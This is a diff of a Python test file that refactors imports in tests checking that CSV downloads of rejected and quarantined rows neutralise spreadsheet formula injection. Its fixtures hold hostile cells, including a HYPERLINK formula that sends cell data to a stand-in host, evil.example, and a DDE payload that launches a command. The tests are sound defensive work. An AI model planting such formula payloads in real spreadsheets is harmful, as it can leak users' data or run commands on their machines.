@@ -16,7 +16,8 @@ import pytest
 from analysis import cli, ingest, spreadsheet, store
 from analysis.engine.timeline import load_timeline
 from analysis.reporting import export
-from analysis.views import data as data_views
+from analysis.views.data import preview as preview_views
+from analysis.views.data import results as result_views
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -73,8 +74,8 @@ SESSIONS_WITH_FORMULAS = (
 
 def test_the_data_pages_problems_download_neutralises_rejected_values():
     con = store.connect_memory()
-    preview = data_views.preview_import(con, [("s.csv", SESSIONS_WITH_FORMULAS)])
-    cells = _cells(data_views.as_csv_bytes(data_views.row_problems(preview.result)))
+    preview = preview_views.preview_import(con, [("s.csv", SESSIONS_WITH_FORMULAS)])
+    cells = _cells(spreadsheet.csv_bytes(result_views.row_problems(preview.result)))
     assert '\'=HYPERLINK("http://evil.example","x")' in cells and "'-2+3" in cells
     assert _dangerous(cells) == []
 
@@ -82,9 +83,9 @@ def test_the_data_pages_problems_download_neutralises_rejected_values():
 def test_the_quarantine_download_neutralises_rejected_values():
     con = store.connect_memory()
     assert ingest.import_bytes(con, [("s.csv", SESSIONS_WITH_FORMULAS)], skip_invalid=True).ok
-    rows = data_views.quarantine_rows(con)
+    rows = result_views.quarantine_rows(con)
     assert len(rows) == 3
-    cells = _cells(data_views.as_csv_bytes(rows))
+    cells = _cells(spreadsheet.csv_bytes(rows))
     assert "'+cmd|' /C calc'!A0" in cells and _dangerous(cells) == []
 
 
